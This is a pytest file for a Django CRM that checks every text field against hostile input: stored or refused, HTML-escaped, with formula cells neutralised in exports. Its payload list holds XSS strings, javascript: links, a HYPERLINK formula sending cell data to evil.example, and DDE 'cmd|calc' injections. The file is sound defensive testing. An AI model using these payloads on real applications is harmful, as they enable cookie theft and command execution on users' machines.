"""Hostile input through every text field: HTML/JS, markdown `javascript:` links, formula cells,
overlong and control characters, full-width and RTL text.

For each main object the text fields are generated from its model (editable CharField/TextField
without choices) and kept where the object's API input takes them. Every payload must be either
stored as given (or as its canonical form, for the fields Kehu normalises on every write) or
refused with a 422 that names the field — never a 500. Then the HTML shows it escaped (no live
`<script>`, no `javascript:` href), CSV export cells that a spreadsheet would run are neutralised,
and XLSX cells are text, never formulas."""

from __future__ import annotations

import io
import itertools
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import openpyxl
import pytest
from django.db import models

from kehu.activities.models import FollowUp, Task
from kehu.automation.models import Rule
from kehu.contracts.models import Contract
from kehu.customers.models import Contact, Customer, CustomFieldDefinition, Tag
from kehu.leads.models import Lead
from kehu.mailing.models import MailTemplate
from kehu.sales.models import Opportunity
from tests.api_client import Api
from tests.factories import AdminFactory, CustomerFactory, UserFactory

pytestmark = pytest.mark.django_db

SCRIPT = '<script>alert("kehu")</script>'
PAYLOADS: dict[str, str] = {
    "script": SCRIPT,
    "attribute": '"><img src=x onerror=alert(1)>',
    "markdown_link": "[点我](javascript:alert(1))",
    "js_url": "javascript:alert(document.cookie)",
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "plus": '+cmd|"/C calc"!A0',
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "full_width": "＜ｓｃｒｉｐｔ＞ａｌｅｒｔ（１）＜／ｓｃｒｉｐｔ＞",
    "rtl": "abc\u202egnp.exe\u200f مرحبا שלום",
    "control": "a\x01b\x07c\x1bd\x7f",
    "nul": "a\x00b",
    "overlong": "长" * 70_000,
}
# Fields cleaned into one canonical form on every write (phones, names, addresses …): the stored
# value may differ from the input, but it must be there or refused, and shown escaped.
NORMALISED = {
    "customer": {"name", "short_name", "salutation", "website", "province", "city", "district", "address",
                 "credit_code", "id_number", "external_id"},
    "contact": {"name", "salutation", "mobile", "phone", "email", "wechat", "external_id", "title"},
    "lead": {"name", "salutation", "company", "mobile", "phone", "email", "wechat", "province", "city",
             "external_id", "title"},
    "opportunity": {"name", "external_id"},
    "contract": {"number", "title"},
    "followup": set(),
    "task": {"title"},
    "rule": {"name"},
    # A colour is cut to 20 characters and made safe where it is shown (kehu_tags.safe_color).
    "tag": {"name", "color"},
}


# Fields the service fills only in one state (a lost deal's note, a disqualified lead's reason).
CONDITIONAL = {"lead": {"disqualify_reason"}, "opportunity": {"lost_note"}}


def text_fields(model: type[models.Model]) -> list[str]:
    """The editable free-text fields of a model (choices and slugs are not free text)."""
    return [
        f.name for f in model._meta.get_fields()
        if isinstance(f, models.CharField | models.TextField) and f.editable and not f.choices
        and not isinstance(f, models.SlugField | models.EmailField | models.GenericIPAddressField)
    ]


@dataclass
class Spec:
    name: str
    model: type[models.Model]
    path: str  # the API create endpoint
    base: Callable[[Any], dict[str, Any]]  # a valid body, given the fixture context
    skip: set[str] = field(default_factory=set)  # fields the API input does not take


_SEQUENCE = itertools.count()


def _customer(ctx: Any) -> dict:
    return {"name": "敌意测试有限公司"}


SPECS = [
    Spec("customer", Customer, "/customers", _customer, skip={"name_pinyin", "name_initials", "name_core"}),
    Spec("contact", Contact, "/contacts", lambda ctx: {"customer": ctx.customer.pk, "name": "王芳"},
         skip={"name_pinyin", "name_initials", "mobile_e164", "phone_e164"}),
    Spec("lead", Lead, "/leads", lambda ctx: {"name": "赵六", "company": "线索公司"}),
    Spec("opportunity", Opportunity, "/opportunities", lambda ctx: {"name": "一单", "customer": ctx.customer.pk}),
    Spec("contract", Contract, "/contracts",
         lambda ctx: {"title": "一份合同", "customer": ctx.customer.pk, "amount": "1000"}),
    Spec("followup", FollowUp, "/followups",
         lambda ctx: {"customer": ctx.customer.pk, "kind": "call", "content": "电话沟通"}),
    Spec("task", Task, "/tasks", lambda ctx: {"title": "回电话", "customer": ctx.customer.pk}),
    Spec("rule", Rule, "/automation/rules",
         lambda ctx: {"name": "规则", "object_type": "customer", "trigger": "created", "conditions": {},
                      "actions": [{"type": "add_tag", "params": {"tag": "新"}}]}),
    Spec("tag", Tag, "/tags", lambda ctx: {"name": f"标签{next(_SEQUENCE)}"}),  # names are unique
]


def _api_inputs() -> dict[str, set[str]]:
    """The properties each create endpoint's JSON body takes (from the OpenAPI schema)."""
    from kehu.config.api import api

    spec = api.get_openapi_schema()
    schemas = spec["components"]["schemas"]
    inputs: dict[str, set[str]] = {}
    for path, operations in spec["paths"].items():
        body = operations.get("post", {}).get("requestBody", {}).get("content", {}).get("application/json", {})
        ref = body.get("schema", {}).get("$ref", "")
        if ref:
            inputs[path.removeprefix("/api/v1")] = set(schemas[ref.rsplit("/", 1)[1]].get("properties", {}))
    return inputs


def _cases() -> list[tuple[Spec, str]]:
    import django

    django.setup()
    inputs = _api_inputs()
    cases = []
    for spec in SPECS:
        takes = inputs[spec.path]
        for name in text_fields(spec.model):
            if name in takes and name not in spec.skip:
                cases.append((spec, name))
    return cases


CASES = _cases()


@dataclass
class Ctx:
    user: Any
    api: Api
    customer: Customer


@pytest.fixture
def ctx() -> Ctx:
    admin = AdminFactory()  # automation rules are admins' work; everything else is the same for reps
    return Ctx(user=admin, api=Api(admin), customer=CustomerFactory(owner=admin, name="宿主客户有限公司"))


def test_every_main_object_has_text_fields_under_test() -> None:
    covered = {spec.name for spec, _ in CASES}
    assert covered == {s.name for s in SPECS}
    fields = {(spec.name, name) for spec, name in CASES}
    expected = {("customer", "notes"), ("customer", "address"), ("contact", "name"), ("lead", "notes"),
                ("opportunity", "description"), ("contract", "notes"), ("followup", "content"),
                ("task", "title"), ("rule", "name"), ("tag", "name")}
    assert expected <= fields


def _error_fields(body: dict) -> set[str]:
    error = body.get("error", {})
    return {str(e.get("field") or "") for e in error.get("errors", [])} | {str(error.get("field") or "")}


def _as_kehu_stores_it(value: str) -> str:
    """Kehu's one text cleaning (customers.validation.clean_text, used by every service): NUL out
    (PostgreSQL can't hold it), surrounding whitespace trimmed. Nothing else is changed."""
    return value.replace("\x00", "").strip()


@pytest.mark.parametrize("spec", SPECS, ids=[s.name for s in SPECS])
def test_api_stores_as_given_or_refuses_naming_the_field(ctx, spec) -> None:  # type: ignore[no-untyped-def]
    """Every text field × every payload through the create endpoint (one test per object, so the
    whole matrix runs in seconds); all problems are listed together."""
    problems: list[str] = []
    for s, name in CASES:
        if s is not spec or name in CONDITIONAL.get(spec.name, ()):
            continue
        for payload, value in PAYLOADS.items():
            where = f"{spec.name}.{name} ← {payload}"
            before = spec.model.objects.count()
            response = ctx.api.post(spec.path, {**spec.base(ctx), name: value})
            if response.status_code == 422:
                if name not in _error_fields(response.json()):
                    problems.append(f"{where}: 422 without naming the field: {response.json()}")
                if spec.model.objects.count() != before:
                    problems.append(f"{where}: refused but written")
                continue
            if response.status_code not in (200, 201):
                problems.append(f"{where}: HTTP {response.status_code} {response.content[:200]!r}")
                continue
            stored = getattr(spec.model.objects.get(pk=response.json()["id"]), name)
            expected = _as_kehu_stores_it(value)
            if name in NORMALISED[spec.name]:
                if not stored and expected:
                    problems.append(f"{where}: normalised to nothing")
            elif stored != expected and not (payload == "overlong" and expected.startswith(stored) and stored):
                problems.append(f"{where}: stored {stored[:40]!r}")
    assert not problems, "\n".join(problems)


# The HTML: every text field at once with markup and a javascript: link, then the detail and list pages.

PAGES: dict[str, tuple[str, Callable[[Any], str]]] = {
    "customer": ("/customers/", lambda obj: f"/customers/{obj.pk}/"),
    "lead": ("/leads/", lambda obj: f"/leads/{obj.pk}/"),
    "opportunity": ("/sales/list/", lambda obj: f"/sales/opportunities/{obj.pk}/"),
    "contract": ("/contracts/", lambda obj: f"/contracts/{obj.pk}/"),
}
LIVE_HREF = re.compile(r"""(href|src|action|formaction)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)


def _assert_escaped(html: str) -> None:
    assert SCRIPT not in html
    assert "<img src=x onerror" not in html
    assert not LIVE_HREF.search(html), LIVE_HREF.search(html)


def _save_everything(ctx: Ctx, spec: Spec, marker: str) -> Any:
    """One record with a hostile value in every text field the API accepts it in."""
    body = spec.base(ctx)
    for s, name in CASES:
        if s is spec:
            body[name] = f"{marker} {SCRIPT} [x](javascript:alert(1))"
    response = ctx.api.post(spec.path, body)
    if response.status_code == 422:  # a validated field refuses it: keep the plain-text fields
        for name in _error_fields(response.json()):
            body.pop(name, None)
        body.update({k: v for k, v in spec.base(ctx).items() if k not in body})
        response = ctx.api.post(spec.path, body)
    assert response.status_code == 201, response.content[:300]
    return spec.model.objects.get(pk=response.json()["id"])


@pytest.mark.parametrize("kind", list(PAGES))
def test_detail_and_list_pages_show_it_escaped(client, ctx, kind) -> None:  # type: ignore[no-untyped-def]
    spec = next(s for s in SPECS if s.name == kind)
    obj = _save_everything(ctx, spec, "敌意")
    client.force_login(ctx.user)
    list_path, detail_path = PAGES[kind]
    for path in (detail_path(obj), list_path):
        response = client.get(path)
        assert response.status_code == 200, path
        html = response.content.decode()
        _assert_escaped(html)
    assert "&lt;script&gt;alert(&quot;kehu&quot;)&lt;/script&gt;" in client.get(detail_path(obj)).content.decode()


def test_customer_detail_escapes_contacts_followups_tasks_and_custom_fields(client, ctx) -> None:  # type: ignore[no-untyped-def]
    CustomFieldDefinition.objects.create(target="customer", key="memo", label_zh="备忘", field_type="text")
    hostile = f"{SCRIPT} [x](javascript:alert(1))"
    patched = ctx.api.patch(f"/customers/{ctx.customer.pk}", {"notes": hostile, "custom": {"memo": hostile},
                                                               "version": ctx.customer.version})
    assert patched.status_code == 200, patched.content[:300]
    for spec in SPECS:
        if spec.name in ("contact", "followup", "task", "opportunity", "contract"):
            _save_everything(ctx, spec, spec.name)
    assert ctx.api.post(f"/customers/{ctx.customer.pk}/notes", {"body": hostile}).status_code == 201
    ctx.customer.refresh_from_db()
    assert ctx.customer.custom["memo"] == hostile and ctx.customer.notes == hostile
    client.force_login(ctx.user)
    html = client.get(f"/customers/{ctx.customer.pk}/").content.decode()
    _assert_escaped(html)
    assert html.count("&lt;script&gt;") >= 3
    for path in ("/activities/followups/", "/activities/tasks/", f"/customers/{ctx.customer.pk}/history/"):
        page = client.get(path)
        assert page.status_code == 200, path
        _assert_escaped(page.content.decode())


def test_customer_web_form_stores_as_given_and_shows_escaped(client, ctx) -> None:  # type: ignore[no-untyped-def]
    client.force_login(ctx.user)
    notes = f"{SCRIPT}\n{PAYLOADS['rtl']}\n{PAYLOADS['full_width']}\n[x](javascript:alert(1))"
    response = client.post("/customers/new/", {"kind": "company", "name": "网页表单有限公司", "notes": notes,
                                               "address": PAYLOADS["attribute"]})
    assert response.status_code == 302, response.content[:500]
    customer = Customer.objects.get(name="网页表单有限公司")
    assert customer.notes == notes
    html = client.get(f"/customers/{customer.pk}/").content.decode()
    _assert_escaped(html)
    assert "&lt;script&gt;" in html and "\u202e" in html  # RTL text kept as text, inside escaped markup

    overlong = client.post("/customers/new/", {"kind": "company", "name": "长" * 5000})
    assert overlong.status_code in (200, 422) and not Customer.objects.filter(name__startswith="长长长").exists()


def test_mail_template_web_form(client, ctx) -> None:  # type: ignore[no-untyped-def]
    client.force_login(ctx.user)
    response = client.post("/mail/templates/new/", {"key": "hostile", "name": SCRIPT, "language": "zh-hans",
                                                    "subject": f"=cmd|' /C calc'!A0 {SCRIPT}",
                                                    "body": "[点我](javascript:alert(1))\n" + SCRIPT,
                                                    "is_active": "on"})
    assert response.status_code == 302, response.content[:500]
    template = MailTemplate.objects.get(key="hostile")
    assert template.name == SCRIPT and template.body.endswith(SCRIPT)
    for path in ("/mail/templates/", f"/mail/templates/{template.pk}/"):
        _assert_escaped(client.get(path).content.decode())


# Exports: cells a spreadsheet would run are neutralised in CSV; XLSX cells are text.

FORMULAS = [PAYLOADS[k] for k in ("formula", "plus", "minus", "at", "tab", "cr")]
EXPORTS = {
    "customer": ("/customers/export", "notes"),
    "lead": ("/leads/export", "notes"),
    "opportunity": ("/opportunities/export", "description"),
    "contract": ("/contracts/export", "notes"),
}


def _export_records(ctx: Ctx, kind: str) -> None:
    spec = next(s for s in SPECS if s.name == kind)
    text_field = EXPORTS[kind][1]
    for i, formula in enumerate(FORMULAS):
        body = spec.base(ctx)
        name_field = "title" if kind == "contract" else "name"
        body[name_field] = formula if kind != "customer" else f"{formula} 公司{i}"
        body[text_field] = formula
        response = ctx.api.post(spec.path, body)
        assert response.status_code == 201, response.content[:300]


def _risky(cell: Any) -> bool:
    return isinstance(cell, str) and cell[:1] in ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_csv_export_neutralises_formula_cells(ctx, kind) -> None:  # type: ignore[no-untyped-def]
    import csv

    _export_records(ctx, kind)
    response = ctx.api.get(EXPORTS[kind][0], {"format": "csv"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    cells = [c for row in rows[1:] for c in row]
    assert not [c for c in cells if _risky(c)]
    for formula in FORMULAS:
        # kept (trimmed, as every text is), behind the apostrophe spreadsheets read as "text"
        assert "'" + formula.strip() in cells


@pytest.mark.parametrize("kind", list(EXPORTS))
def test_xlsx_export_cells_are_text_not_formulas(ctx, kind) -> None:  # type: ignore[no-untyped-def]
    _export_records(ctx, kind)
    response = ctx.api.get(EXPORTS[kind][0], {"format": "xlsx"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    found = [c for c in cells if isinstance(c.value, str) and c.value.lstrip("'") in FORMULAS]
    assert found and all(c.data_type == "s" for c in found)


def test_rep_gets_the_same_treatment(client) -> None:  # type: ignore[no-untyped-def]
    """The checks above run as an admin; a sales rep's own record goes through the same code."""
    rep = UserFactory()
    response = Api(rep).post("/customers", {"name": "销售的客户", "notes": SCRIPT})
    assert response.status_code == 201
    client.force_login(rep)
    _assert_escaped(client.get(f"/customers/{response.json()['id']}/").content.decode())


def test_javascript_urls_never_become_links(client, ctx) -> None:  # type: ignore[no-untyped-def]
    """A website, e-mail or "back" target of `javascript:` is refused or shown as text, never an href."""
    response = ctx.api.post("/customers", {"name": "链接测试有限公司", "website": "javascript:alert(1)",
                                           "emails": ["javascript:alert(1)@example.com"]})
    client.force_login(ctx.user)
    if response.status_code == 201:
        _assert_escaped(client.get(f"/customers/{response.json()['id']}/").content.decode())
    else:
        assert response.status_code == 422 and _error_fields(response.json()) & {"website", "emails"}
    for path in (f"/activities/followups/new/?customer={ctx.customer.pk}&next=javascript:alert(1)",
                 f"/activities/tasks/new/?customer={ctx.customer.pk}&next=javascript:alert(1)"):
        page = client.get(path)
        assert page.status_code == 200, path
        _assert_escaped(page.content.decode())
